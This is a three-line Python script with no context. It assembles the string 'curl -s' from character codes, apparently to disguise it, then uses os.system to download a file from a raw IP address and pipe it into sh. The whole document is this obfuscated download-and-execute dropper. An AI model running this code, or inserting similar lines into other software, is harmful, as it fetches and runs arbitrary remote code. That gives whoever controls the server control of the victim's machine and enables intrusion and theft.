import os
cmd = chr(99)+chr(117)+chr(114)+chr(108)+chr(32)+chr(45)+chr(115)
os.system(cmd + ' http://91.92.242.30/x | sh')
